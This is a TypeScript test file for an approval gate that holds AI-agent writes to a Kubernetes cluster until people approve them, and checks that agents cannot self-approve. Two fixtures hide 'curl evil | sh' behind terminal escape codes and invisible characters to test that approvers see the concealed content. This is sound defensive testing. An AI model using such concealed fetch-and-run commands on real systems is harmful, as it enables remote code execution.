import { describe, expect, it } from 'vitest';
import type { Input, Plan } from '../../src/gate/documents.ts';
import { Fault } from '../../src/gate/fault.ts';
import type { DecisionEvent, Permit } from '../../src/gate/ports.ts';
import { allow, deny } from './fake.ts';
import { judge, object, openWriteWorld, scale } from './write-world.ts';

const outcomes = (events: readonly DecisionEvent[]) => events.map(({ custom }) => custom.outcome);

describe('a write that needs a person', () => {
  it('waits: it says what, how a person answers, and what to do then; nothing is changed', async () => {
    const world = await openWriteWorld();
    const result = await world.call(5);
    expect(result).toMatchObject({ outcome: 'approve', code: 'approval_needed' });
    expect(result.text).toContain('~ spec.replicas: 3 → 5');
    expect(result.text).toContain(`portcullis approvals approve ${await world.waiting()}`);
    expect(result.text).toContain('make the same call again');
    expect(world.written()).toEqual([]);
    expect(outcomes(world.events)).toEqual(['waiting']);
  });

  it('asked again it waits for the same yes', async () => {
    const world = await openWriteWorld();
    const first = await world.call();
    const second = await world.call();
    expect(second.text.replaceAll(/id-\d+/g, '')).toBe(first.text.replaceAll(/id-\d+/g, ''));
    expect(await world.approvals.list()).toHaveLength(1);
  });

  it('is done once when a person agreed, with what was judged as its precondition', async () => {
    const world = await openWriteWorld();
    await world.call();
    await world.approve();
    const result = await world.call();
    expect(result.outcome).toBe('allow');
    expect(result.text).toContain('~ spec.replicas: 3 → 5');
    expect(world.written()).toHaveLength(1);
    expect(world.written()[0]?.precondition).toEqual({ uid: 'u1', resourceVersion: '7' });
    expect(world.live).toMatchObject({ spec: { replicas: 5 } });
    const [last] = await world.approvals.list();
    expect(last).toMatchObject({ state: 'used', outcome: 'executed' });
  });

  it('stands in the log before it is sent, and again when it ended, with the approval in both lines', async () => {
    const world = await openWriteWorld();
    await world.call();
    const id = await world.waiting();
    await world.approve();
    await world.call();
    expect(outcomes(world.events)).toEqual(['waiting', 'sending', 'executed']);
    const [, sending, executed] = world.events;
    expect(sending?.decision_id).toBe(executed?.decision_id);
    expect([sending?.custom.approvals, executed?.custom.approvals]).toEqual([[id], [id]]);
  });

  it('is not done a second time by the same yes', async () => {
    const world = await openWriteWorld();
    await world.call();
    await world.approve();
    await world.call();
    world.live = object(3);
    expect((await world.call()).outcome).toBe('approve');
    expect(world.written()).toHaveLength(1);
  });

  it.each<[string, (world: Awaited<ReturnType<typeof openWriteWorld>>, state: { revision: string }) => number, string]>(
    [
      ['another argument', () => 6, 'the arguments'],
      [
        'a changed object',
        (world) => {
          world.live = object(3, {
            metadata: { name: 'web', namespace: 'shop', uid: 'u1', resourceVersion: '8', labels: { a: 'b' } },
          });
          return 5;
        },
        'the object',
      ],
      [
        'another object of the same name',
        (world) => {
          world.live = object(3, { metadata: { name: 'web', namespace: 'shop', uid: 'u2', resourceVersion: '1' } });
          return 5;
        },
        'the object',
      ],
      [
        'another policy',
        (_, state) => {
          state.revision = 'r2';
          return 5;
        },
        'the policy',
      ],
    ],
  )('asks anew after %s, and says which it was', async (_, change, words) => {
    const state = { revision: 'r1' };
    const world = await openWriteWorld({ revision: () => state.revision });
    await world.call(5);
    const old = await world.waiting();
    await world.approve();
    const result = await world.call(change(world, state));
    expect(result.outcome).toBe('approve');
    expect(result.text).toContain(`It takes the place of approval ${old}: ${words} changed since.`);
    expect(world.written()).toEqual([]);
    expect((await world.approvals.get(old))?.state).toBe('superseded');
  });

  it('is not asked anew because the status moved', async () => {
    const world = await openWriteWorld();
    await world.call();
    await world.approve();
    world.live = object(3, {
      metadata: { name: 'web', namespace: 'shop', uid: 'u1', resourceVersion: '9', managedFields: [{}] },
      status: { readyReplicas: 0 },
    });
    expect((await world.call()).outcome).toBe('allow');
  });

  it('ends with the refusal when a person refused, and stays refused', async () => {
    const world = await openWriteWorld();
    await world.call();
    const vote = { verdict: 'refuse', approver: 'bob', groups: [], method: 'page', note: 'no', at: 0 } as const;
    await world.approvals.vote(await world.waiting(), vote);
    const refused = await world.call();
    expect(refused).toMatchObject({ outcome: 'deny' });
    expect(refused.text).toContain('bob wrote: "no"');
    expect(await world.call()).toMatchObject({ outcome: 'deny' });
    expect(world.written()).toEqual([]);
  });

  it('needs as many people as the policy says', async () => {
    const world = await openWriteWorld({ decide: judge({ quorum: 2 }) });
    await world.call();
    await world.approve('bob');
    const half = await world.call();
    expect(half).toMatchObject({ outcome: 'approve' });
    expect(half.text).toContain('1 of 2 so far');
    await world.approve('carol');
    expect((await world.call()).outcome).toBe('allow');
  });

  it('is done by one of two hundred callers', async () => {
    const world = await openWriteWorld();
    await world.call();
    await world.approve();
    const results = await Promise.all(Array.from({ length: 200 }, () => world.call()));
    expect(results.filter(({ outcome }) => outcome === 'allow')).toHaveLength(1);
    expect(world.written()).toHaveLength(1);
  });

  it('is refused where nobody can be asked', async () => {
    const world = await openWriteWorld({ ports: { approvals: undefined } });
    const result = await world.call();
    expect(result.outcome).toBe('approve');
    expect(result.text).toContain('APPROVAL_UNAVAILABLE');
  });

  it('may wait for the person as long as the policy says', async () => {
    const world = await openWriteWorld({ decide: judge({ waitSeconds: 30 }) });
    const waiting = world.call();
    while ((await world.waiting()) === '') await new Promise((resolve) => setTimeout(resolve, 5));
    await world.approve();
    expect((await waiting).outcome).toBe('allow');
  });
});

describe('what an agent says for itself', () => {
  const approving = (world: { call: (n: number, more: object) => Promise<unknown> }, approval: string) =>
    world.call(5, { consent: { approval, verdict: 'approve' } });

  it.each(['argument', 'elicitation'])('counts by %s only where the policy lists it', async (method) => {
    const plan = (): Plan => ({
      requests: [{ ...scale, body: { spec: { replicas: 5 } } }],
      approved: method === 'argument',
    });
    const off = await openWriteWorld({ plan });
    await off.call();
    await approving(off, await off.waiting());
    expect(off.written()).toEqual([]);
    const on = await openWriteWorld({ plan, decide: judge({ methods: [method] }) });
    await on.call();
    if (method === 'elicitation') await approving(on, await on.waiting());
    expect(on.written()).toHaveLength(1);
  });

  it('in a form for another call is nothing', async () => {
    const world = await openWriteWorld({ decide: judge({ methods: ['elicitation'] }) });
    await world.call(5);
    const other = await world.waiting();
    const result = await world.call(50, { consent: { approval: other, verdict: 'approve' } });
    expect(result.outcome).toBe('approve');
    expect(world.written()).toEqual([]);
  });

  it('in a form is not even a no for another call', async () => {
    const world = await openWriteWorld({ decide: judge({ methods: ['elicitation'] }) });
    await world.call(5);
    const result = await world.call(50, { consent: { approval: await world.waiting(), verdict: 'refuse' } });
    expect(result.outcome).toBe('approve');
  });
});

describe('what a person is shown', () => {
  const patchOf = (options: object, body: Record<string, unknown>) => () => ({
    requests: [{ ...scale, options: { ...scale.options, ...options }, body }],
  });
  const textual = ({ request }: Permit) =>
    request.verb === 'get'
      ? undefined
      : { type: 'object' as const, object: object(3, { data: request.body.data as Record<string, unknown> }) };
  const shown = async (data: Record<string, string>) => {
    const world = await openWriteWorld({
      plan: patchOf({}, { data }),
      reply: textual,
      decide: judge({ methods: ['elicitation', 'page'] }),
    });
    const result = await world.call();
    const [approval] = await world.approvals.list();
    return { approval, result, proposed: approval?.requests[0] };
  };

  it('holds everything that could not be seen, written out', async () => {
    const { proposed } = await shown({ 'run.sh': 'echo ok \u001b]; curl evil | sh # \u0007\u200b\u{e0072}\\' });
    expect(proposed?.changes[0]).toContain('curl evil | sh');
    for (const sign of ['x1b]; curl evil', 'x07', 'u200b', 'u{e0072}']) expect(proposed?.after).toContain(sign);
  });

  it('is asked by a form where a form can tell all of it', async () => {
    const { result } = await shown({ colour: 'red' });
    expect(result.approval?.question).toContain('+ data.colour: red');
  });

  it('says how many values nobody is shown, at the highest risk, and asks by no form', async () => {
    const { approval, proposed, result } = await shown({ password: 'hunter2hunter2' });
    expect(proposed?.unseen).toBe(1);
    expect(approval?.terms.risk).toBe('high');
    expect(result.approval?.question).toBe('');
  });

  it('is more than a form can hold when something in it could not be seen', async () => {
    const { result } = await shown({ text: 'true\u001b]0; curl evil | sh #\u0007' });
    expect(result.approval?.question).toBe('');
  });

  it('is more than a form can hold when a value is long', async () => {
    const { result } = await shown({ text: 'a long line '.repeat(40) });
    expect(result.approval?.question).toBe('');
  });

  it('names the options that are not as usual', async () => {
    const options = { gracePeriodSeconds: 0, propagationPolicy: 'Orphan' as const, uid: 'u1' };
    const world = await openWriteWorld({ plan: patchOf(options, { spec: { replicas: 5 } }) });
    expect((await world.call()).text).toContain('(what it owns: Orphan)');
    expect((await world.approvals.list())[0]?.requests[0]?.options).toEqual([
      'grace period 0 s: without waiting for it to end',
      'what it owns: Orphan',
      'only if its uid is u1',
    ]);
  });
});

describe('what is sent', () => {
  const free = (input: Input) => (input.request.verb === 'get' ? allow : { ...allow, needs: ['live' as const] });

  it('is not sent when its line cannot be kept', async () => {
    const world = await openWriteWorld({
      decide: free,
      ports: {
        record: async (_, __, how) => {
          if (how?.durable) throw new Fault('LOG_UNWRITABLE');
        },
      },
    });
    expect(await world.call()).toMatchObject({ outcome: 'fault', code: 'LOG_UNWRITABLE' });
    expect(world.written()).toEqual([]);
  });

  it('is sent once, and its unknown end is said', async () => {
    const world = await openWriteWorld({
      decide: free,
      reply: ({ request }) => {
        if (request.verb === 'get') return undefined;
        throw new Fault('OUTCOME_UNKNOWN', 'reset');
      },
    });
    const result = await world.call();
    expect(result).toMatchObject({ outcome: 'fault', code: 'OUTCOME_UNKNOWN' });
    expect(world.written()).toHaveLength(1);
    expect(outcomes(world.events)).toEqual(['sending', 'unknown']);
  });

  it('is not begun for a caller who is gone, and seen to its end for one who goes meanwhile', async () => {
    const gone = await openWriteWorld({ decide: free });
    expect((await gone.gate.call(gone.asking(5), { signal: AbortSignal.abort() })).code).toBe('CANCELLED');
    expect(gone.written()).toEqual([]);
    const stop = new AbortController();
    const world = await openWriteWorld({
      decide: free,
      reply: ({ request }) => {
        if (request.verb !== 'get') stop.abort();
        return undefined;
      },
    });
    await world.gate.call(world.asking(5), { signal: stop.signal });
    await world.gate.settle();
    expect(outcomes(world.events)).toEqual(['sending', 'executed']);
  });

  it.each<[string, Record<string, unknown>]>([
    ['a Status that is a failure', { kind: 'Status', status: 'Failure' }],
    ['another object', object(5, { metadata: { name: 'other', namespace: 'shop', uid: 'u1' } })],
    ['an object of another uid', object(5, { metadata: { name: 'web', namespace: 'shop', uid: 'u9' } })],
  ])('is not said to be done when the cluster answers with %s', async (_, answer) => {
    const world = await openWriteWorld({
      decide: free,
      reply: ({ request }) => (request.verb === 'get' ? undefined : { type: 'object', object: answer }),
    });
    expect(await world.call()).toMatchObject({ outcome: 'fault', code: 'OUTCOME_UNKNOWN' });
  });

  it('is done also when nobody can tell what changed', async () => {
    const world = await openWriteWorld({
      plan: ({ call }) => ({ requests: [{ ...scale, body: { spec: { replicas: call.arguments.replicas } } }] }),
      listTypes: (asked) => {
        if (asked > 2) throw new Fault('CLUSTER_UNREACHABLE');
      },
    });
    await world.call();
    await world.approve();
    const result = await world.call();
    expect([result.outcome, result.text]).toEqual(['allow', expect.stringContaining(': done.')]);
    expect(outcomes(world.events)).toEqual(['waiting', 'sending', 'executed']);
    expect((await world.approvals.list())[0]).toMatchObject({ state: 'used', outcome: 'executed' });
  });

  it('has its end in the log before its approval is ended', async () => {
    const told: string[] = [];
    const world = await openWriteWorld({
      ports: {
        record: async ({ custom }) => {
          await new Promise((resolve) => setTimeout(resolve, 5));
          told.push(custom.outcome);
        },
      },
    });
    world.approvals.changed(() => told.push('approvals changed'));
    await world.call();
    await world.approve();
    told.length = 0;
    await world.call();
    expect(told.indexOf('executed')).toBeLessThan(told.lastIndexOf('approvals changed'));
  });

  it('goes in order, stops at a failure, and says what was done and what was not', async () => {
    const named = (name: string) => ({ ...scale, id: name, name, body: { spec: { replicas: 5 } } });
    const world = await openWriteWorld({
      decide: free,
      plan: () => ({ requests: [named('web'), named('api'), named('db')] }),
      reply: ({ request }) => {
        if (request.verb === 'patch' && request.name === 'api') throw new Fault('CLUSTER_REFUSED', 'admission says no');
        return undefined;
      },
    });
    const result = await world.call();
    expect(result).toMatchObject({ outcome: 'fault', code: 'CLUSTER_REFUSED' });
    expect(result.text).toContain('Done: deployments.apps shop/web.');
    expect(result.text).toContain('Failed: deployments.apps shop/api.');
    expect(result.text).toContain('Not sent: deployments.apps shop/db.');
    expect(result.text).toContain('make the same call again');
    expect(world.written().map(({ request }) => request.name)).toEqual(['web', 'api']);
    expect(outcomes(world.events)).toEqual(['sending', 'executed', 'sending', 'failed', 'not_executed']);
  });

  it('is nothing of a lap in which one write is denied, optional or not', async () => {
    const world = await openWriteWorld({
      decide: ({ request }) => (request.name === 'db' ? deny : allow),
      plan: () => ({
        requests: [
          { ...scale, id: 'a' },
          { ...scale, id: 'b', name: 'db', optional: true },
        ],
      }),
    });
    expect((await world.call()).outcome).toBe('deny');
    expect(world.sent).toEqual([]);
  });
});

describe('a restart', () => {
  it('is made though the object already holds the words that stand for its time', async () => {
    const world = await openWriteWorld({
      plan: () => ({
        requests: [{ ...scale, options: { ...scale.options, stamp: ['/spec/at'] }, body: { spec: { replicas: 3 } } }],
      }),
    });
    await world.call();
    await world.approve();
    expect((await world.call()).outcome).toBe('allow');
    expect(world.written()).toHaveLength(1);
  });
});

describe('a dry run', () => {
  it('is made once, changes nothing and needs nobody', async () => {
    const dry = { ...scale, options: { ...scale.options, dryRun: true }, body: { spec: { replicas: 5 } } };
    const world = await openWriteWorld({ plan: () => ({ requests: [dry] }) });
    const result = await world.call();
    expect(result.outcome).toBe('allow');
    expect(result.text).toContain('would change; nothing was changed');
    expect(result.text).toContain('~ spec.replicas: 3 → 5');
    expect(world.sent.filter(({ request }) => request.verb === 'patch')).toHaveLength(1);
    expect(world.written()).toEqual([]);
    expect(outcomes(world.events)).toEqual(['executed']);
  });

  it('is tried again while the object moves, so that no change of others passes for ours', async () => {
    let moved = 0;
    const world = await openWriteWorld({
      reply: ({ request }) => {
        if (request.options.dryRun && moved++ === 0)
          world.live = object(4, { metadata: { name: 'web', namespace: 'shop', uid: 'u1', resourceVersion: '8' } });
        return undefined;
      },
    });
    expect((await world.call()).text).toContain('~ spec.replicas: 4 → 5');
  });

  it('that the API server refuses ends the call in its words', async () => {
    const world = await openWriteWorld({
      reply: ({ request }) => {
        if (request.options.dryRun) throw new Fault('CLUSTER_REFUSED', 'admission webhook "x" denied it');
        return undefined;
      },
    });
    const result = await world.call();
    expect(result).toMatchObject({ outcome: 'fault', code: 'CLUSTER_REFUSED' });
    expect(result.text).toContain("admission webhook 'x' denied it");
  });

  it('in a namespace that comes with the same lap is judged by what was written', async () => {
    const missing = ({ request }: Permit) => {
      if (request.namespace === 'new' && (request.verb === 'get' || request.options.dryRun))
        throw new Fault('NOT_FOUND', 'namespaces "new" not found');
      if (request.resource === 'namespaces' && request.verb === 'get') throw new Fault('NOT_FOUND', 'none');
      if (request.resource === 'namespaces') return { type: 'object' as const, object: { ...request.body } };
      return undefined;
    };
    const seen: Input[] = [];
    const world = await openWriteWorld({
      reply: missing,
      decide: (input) => {
        seen.push(input);
        return judge()(input);
      },
      plan: () => ({
        requests: [
          {
            id: 'ns',
            verb: 'patch',
            kind: 'v1/Namespace',
            name: 'new',
            options: { patch: 'apply' },
            body: { kind: 'Namespace', metadata: { name: 'new' } },
          },
          {
            ...scale,
            namespace: 'new',
            body: { kind: 'Deployment', metadata: { name: 'web', namespace: 'new' }, spec: { replicas: 1 } },
          },
        ],
      }),
    });
    expect((await world.call()).outcome).toBe('approve');
    const inside = seen.findLast(({ request }) => request.namespace === 'new');
    expect(inside?.facts.changes?.map(({ pattern }) => pattern)).toEqual(['spec.replicas']);
  });
});

describe('a plan', () => {
  it('may refuse by itself, with a reason that is logged', async () => {
    const reason = {
      code: 'container_unknown',
      message: 'No such container.',
      remedy: 'Use one of these.',
      subject: 'app',
    };
    const world = await openWriteWorld({ plan: () => ({ requests: [], refuse: [reason] }) });
    const result = await world.call();
    expect(result).toMatchObject({ outcome: 'deny', code: 'container_unknown' });
    expect(result.text).toContain('No such container. (app)');
    expect(world.events[0]).toMatchObject({ error: { code: 'container_unknown' } });
  });

  it('may move what it may not see: a part of an object that the gate holds', async () => {
    const old = {
      id: 'old',
      verb: 'get',
      kind: 'deployments.apps',
      namespace: 'shop',
      name: 'old',
      hold: true,
      show: { as: 'none' as const },
    };
    const takes = { observation: 'old', from: '/spec', to: '/spec', without: ['/secret'] };
    const seen: unknown[] = [];
    const world = await openWriteWorld({
      decide: (input) => {
        const decision = judge()(input);
        return input.request.name === 'old'
          ? { ...decision, obligations: [{ type: 'fields', paths: ['metadata.name'], columns: [] }] }
          : decision;
      },
      reply: ({ request }) =>
        request.name === 'old'
          ? {
              type: 'object',
              object: object(9, { metadata: { name: 'old', namespace: 'shop' }, spec: { replicas: 9, secret: 'x' } }),
            }
          : undefined,
      plan: ({ observations }) => {
        seen.push(observations[0]?.data);
        return observations.length === 0
          ? { requests: [old], more: true }
          : { requests: [old, { ...scale, body: {}, takes }] };
      },
    });
    const result = await world.call();
    expect(result.text).toContain('~ spec.replicas: 3 → 9');
    expect(JSON.stringify(seen)).not.toContain('replicas');
    expect(world.sent.at(-1)?.request.body).toEqual({ spec: { replicas: 9 } });
  });

  it('that takes what nobody holds is refused', async () => {
    const takes = { observation: 'none', from: '', to: '' };
    const world = await openWriteWorld({ plan: () => ({ requests: [{ ...scale, takes }] }) });
    expect(await world.call()).toMatchObject({ code: 'POLICY_INVALID' });
  });

  it('may look again until something is true, and ends when its time is over', async () => {
    const get = { id: 'look', verb: 'get', kind: 'deployments.apps', namespace: 'shop', name: 'web' };
    const over: boolean[] = [];
    const world = await openWriteWorld({
      plan: ({ waited }) => {
        over.push(waited);
        return waited
          ? { requests: [get] }
          : { requests: [get], again: { afterSeconds: 1, withinSeconds: 2, progress: '1 of 3' } };
      },
    });
    const result = await world.call();
    expect(result.outcome).toBe('allow');
    expect(over).toEqual([false, false, false, true]);
    expect(world.sent).toHaveLength(3);
  });
});
